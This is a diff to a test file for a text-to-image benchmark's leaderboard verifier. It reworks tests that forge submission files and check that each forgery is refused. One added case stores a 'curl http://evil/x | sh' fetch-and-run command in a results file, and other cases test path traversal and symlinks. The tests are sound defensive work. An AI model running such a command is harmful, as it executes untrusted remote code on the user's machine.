@@ -12,19 +12,15 @@ import numpy as np
 import pytest
 
 from t2ibench import evaluate
-from t2ibench.apps.leaderboard.submission import pack, read_manifest
+from t2ibench.apps.leaderboard.packing import pack
+from t2ibench.apps.leaderboard.submission import read_manifest
 from t2ibench.apps.leaderboard.verify import verify
 from t2ibench.errors import T2IBenchError
 from t2ibench.pipeline.progress import SilentReporter
 from t2ibench.results.reading import read_results
-from tests.apps.leaderboard.forging import edit, seal, set_in, tensors
+from tests.apps.leaderboard.forging import edit, refusal, seal, set_in, tensors
 
 Cli = Callable[..., tuple[int, str, str]]
-
-
-@pytest.fixture
-def submission(packed: Path, tmp_path: Path) -> Path:
-    return Path(shutil.copytree(packed, tmp_path / packed.name))
 
 
 def test_an_honest_submission_is_recomputed(packed: Path, run: Path) -> None:
@@ -63,13 +59,23 @@ def swap_rows(data: dict[str, Any]) -> None:
     data["embeddings"][[0, -1]] = data["embeddings"][[-1, 0]]
 
 
-def first_task(results: dict[str, Any]) -> dict[str, Any]:
-    found: dict[str, Any] = results["tasks"]["occupations_t2iat"]
-    return found
-
-
 def drop_image(rows: list[Any]) -> list[Any]:
     return rows[:-1]
+
+
+def word(option: str, text: str | None) -> Callable[[Any], None]:
+    """A change of one option of the command; None takes it out."""
+
+    def change(results: Any) -> None:
+        command = results["command"]
+        at = command.index(option)
+        command[at : at + 2] = [] if text is None else [option, text]
+
+    return change
+
+
+def drop_task(results: Any) -> None:
+    del results["tasks"]["weat_8_science_arts"]
 
 
 OCCUPATIONS = ("tasks", "occupations_t2iat")
@@ -96,7 +102,6 @@ RESULTS: dict[str, tuple[Callable[[Any], Any], str]] = {
         set_in(*OCCUPATIONS, "settings", "n_permutations", value=99), "permutations",
     ),
     "another level": (set_in(*OCCUPATIONS, "settings", "level", value=0.5), "intervals are at 0.5"),
-    "another seed": (set_in(*OCCUPATIONS, "settings", "seed", value=5), "--seed 5"),
     "another task": (set_in(*OCCUPATIONS, "task_hash", value="0" * 64), "another version"),
     "another version": (set_in(*OCCUPATIONS, "version", value=7), "another version"),
     "a task nobody ships": (
@@ -113,18 +118,38 @@ RESULTS: dict[str, tuple[Callable[[Any], Any], str]] = {
     "failures hidden": (
         set_in(*OCCUPATIONS, "excluded", "failed", value=3), "complete the run",
     ),
+    "somebody's shell": (
+        set_in("command", value=["curl", "http://evil/x", "|", "sh"]),
+        "not one that t2ibench writes: curl http://evil/x | sh",
+    ),
+    "another model in the command": (
+        word("--model", "toy"), "names another model, or other arguments",
+    ),
+    "other numbers in the command": (
+        word("--images-per-prompt", "50"), "says images_per_prompt = 50",
+    ),
+    "no numbers in the command": (
+        word("--images-per-prompt", None), "says images_per_prompt = None",
+    ),
+    "another encoder in the command": (word("--encoder", "toy-clip"), "names other encoders"),
+    "no judge in the command": (word("--judge", None), "names other judges"),
+    "more tasks in the command": (word("--tasks", "all"), "tasks that it has no results of"),
+    "fewer tasks in the command": (
+        word("--tasks", "occupations_t2iat"), "its command does not name",
+    ),
+    "a task left out": (drop_task, "such as weat_8_science_arts"),
+    "another version of t2ibench": (
+        set_in("t2ibench", value="9.9"), "different versions of t2ibench",
+    ),
+    "a long environment": (
+        set_in("environment", "x", value="y" * 9000), "environment is too long",
+    ),
+    "a newer schema": (set_in("schema", value=99), "reads 1 to 2"),
+    "a seed": (
+        lambda data: [one["settings"].update(seed=7) for one in data["tasks"].values()] and None,
+        "it was made with --seed 7; the leaderboard takes the default, 0",
+    ),
 }  # fmt: skip
-
-
-@pytest.mark.parametrize("kind", RESULTS)
-def test_changed_results_are_refused(kind: str, submission: Path) -> None:
-    change, message = RESULTS[kind]
-    edit(submission, "results.json", change)
-    verdict = verify(submission)
-    assert verdict.level == "refused"
-    assert message in "\n".join(verdict.problems)
-
-
 ATTEMPTS: dict[str, tuple[Callable[[Any], Any], str]] = {
     "a missing image": (drop_image, "missing"),
     "an image twice": (lambda rows: [*rows, rows[0]], "twice"),
@@ -137,17 +162,19 @@ ATTEMPTS: dict[str, tuple[Callable[[Any], Any], str]] = {
     "no hash": (lambda rows: rows[0].pop("sha256") and None, "must be given for images"),
     "a row of another kind": (lambda rows: [*rows, {"mood": "good"}], "cannot be read"),
 }  # fmt: skip
-
-
-@pytest.mark.parametrize("kind", ATTEMPTS)
-def test_changed_images_are_refused(kind: str, submission: Path) -> None:
-    change, message = ATTEMPTS[kind]
-    edit(submission, "attempts.jsonl", change)
-    verdict = verify(submission)
-    assert verdict.level == "refused"
-    assert message in "\n".join(verdict.problems)
-
-
+MANIFEST: dict[str, tuple[Callable[[Any], Any], str]] = {
+    "a newer version": (set_in("version", value=4), "version"),
+    "an older version": (set_in("version", value=2), "by an older version of t2ibench"),
+    "an unknown key": (set_in("mood", value="good"), "mood"),
+    "no fingerprint": (set_in("fingerprint", value="abc"), "fingerprint"),
+    "another name": (set_in("name", value="another"), "different models"),
+    "no encoders": (set_in("encoders", value={}), "which submission.json lacks"),
+    "another hash": (set_in("files", "results.json", value="0" * 64), "has changed"),
+    "a file less": (lambda data: data["files"].pop("attempts.jsonl") and None, "not listed"),
+    "another revision": (set_in("revision", value="world 3"), "different revisions"),
+    "a folder of images": (set_in("model", value="folder:/tmp"), "is not a model"),
+}
+CHANGED = {"results.json": RESULTS, "attempts.jsonl": ATTEMPTS, "submission.json": MANIFEST}
 TENSORS: dict[str, tuple[Callable[[dict[str, Any]], None], str, str]] = {
     "two images swapped": (swap_rows, "images", "the evidence gives"),
     "two texts swapped": (swap_rows, "texts", "the evidence gives"),
@@ -167,13 +194,18 @@ TENSORS: dict[str, tuple[Callable[[dict[str, Any]], None], str, str]] = {
 }  # fmt: skip
 
 
+@pytest.mark.parametrize(("name", "kind"), [(n, k) for n, kinds in CHANGED.items() for k in kinds])
+def test_a_changed_file_is_refused(name: str, kind: str, submission: Path) -> None:
+    change, message = CHANGED[name][kind]
+    edit(submission, name, change)
+    assert message in refusal(submission)
+
+
 @pytest.mark.parametrize("kind", TENSORS)
 def test_changed_embeddings_are_refused(kind: str, submission: Path) -> None:
     change, which, message = TENSORS[kind]
     tensors(submission, change, which)
-    verdict = verify(submission)
-    assert verdict.level == "refused"
-    assert message in "\n".join(verdict.problems)
+    assert message in refusal(submission)
 
 
 def test_sentences_are_those_of_the_evidence_whatever_a_submission_says(submission: Path) -> None:
@@ -199,7 +231,7 @@ def test_a_difference_of_arithmetic_is_none_and_a_larger_one_is(submission: Path
     edit(submission, "results.json", set_in(*OCCUPATIONS, "headline", "value", value=value + 1e-9))
     assert verify(submission).problems == []
     edit(submission, "results.json", set_in(*OCCUPATIONS, "headline", "value", value=value + 1e-5))
-    assert "headline.value" in "\n".join(verify(submission).problems)
+    assert "headline.value" in refusal(submission)
 
 
 @pytest.mark.slow
@@ -211,16 +243,9 @@ def test_agreement_with_the_prompts_is_recomputed_where_it_is_claimed(submission
     (encoder,) = task["prompt_agreement"]
     place = ("tasks", name, "prompt_agreement")
     edit(submission, "results.json", set_in(*place, encoder, 0, "value", value=0.999))
-    assert "prompt_agreement" in "\n".join(verify(submission).problems)
+    assert "prompt_agreement" in refusal(submission)
     edit(submission, "results.json", set_in(*place, encoder, 0, "value", value=1.5))
-    assert "no mean of cosines" in "\n".join(verify(submission).problems)
-
-
-def test_a_submission_of_an_old_version_is_refused(submission: Path) -> None:
-    edit(submission, "submission.json", set_in("version", value=2))
-    (problem,) = verify(submission).problems
-    assert "by an older version of t2ibench" in problem
-    assert "leaderboard add RUN" in problem
+    assert "no mean of cosines" in refusal(submission)
 
 
 def test_a_changed_answer_is_refused(submission: Path) -> None:
@@ -232,23 +257,18 @@ def test_a_changed_answer_is_refused(submission: Path) -> None:
         row["answer"] = "male" if row["answer"] == "female" else "female"
 
     edit(submission, name, flip)
-    assert "the evidence gives" in "\n".join(verify(submission).problems)
+    assert "the evidence gives" in refusal(submission)
     edit(submission, name, lambda rows: rows[1:])
-    assert "has no answer" in "\n".join(verify(submission).problems)
+    assert "has no answer" in refusal(submission)
 
 
 def test_files_that_do_not_belong(submission: Path, tmp_path: Path) -> None:
-    def refusal() -> str:
-        verdict = verify(submission)
-        assert verdict.level == "refused"
-        return "\n".join(verdict.problems)
-
     (submission / "results.json").write_text("{}")
-    assert "has changed" in refusal()
+    assert "has changed" in refusal(submission)
     seal(submission)
-    assert "not a results file" in refusal()
+    assert "not a results file" in refusal(submission)
     shutil.rmtree(submission)
-    assert "No such folder" in refusal()
+    assert "No such folder" in refusal(submission)
 
 
 @pytest.mark.parametrize(
@@ -268,31 +288,14 @@ def test_strange_files(name: str, message: str, submission: Path) -> None:
     if ".." in name:
         path.unlink()
         edit(submission, "submission.json", lambda data: data["files"].update({name: "0" * 64}))
-    assert message in "\n".join(verify(submission).problems)
+    assert message in refusal(submission)
 
 
 def test_links_are_refused(submission: Path, tmp_path: Path) -> None:
     secret = tmp_path / "secret"
     secret.write_text("x")
     (submission / "evidence" / "leak.jsonl").symlink_to(secret)
-    assert "is a link" in "\n".join(verify(submission).problems)
-
-
-@pytest.mark.parametrize(
-    ("change", "message"),
-    [
-        (set_in("version", value=4), "version"),
-        (set_in("mood", value="good"), "mood"),
-        (set_in("fingerprint", value="abc"), "fingerprint"),
-        (set_in("name", value="another"), "different models"),
-        (set_in("encoders", value={}), "which submission.json lacks"),
-        (set_in("files", "results.json", value="0" * 64), "has changed"),
-        (lambda data: data["files"].pop("attempts.jsonl") and None, "not listed"),
-    ],
-)
-def test_a_changed_manifest(change: Callable[[Any], Any], message: str, submission: Path) -> None:
-    edit(submission, "submission.json", change)
-    assert message in "\n".join(verify(submission).problems)
+    assert "is a link" in refusal(submission)
 
 
 def test_what_cannot_be_packed(run: Path, tmp_path: Path) -> None:
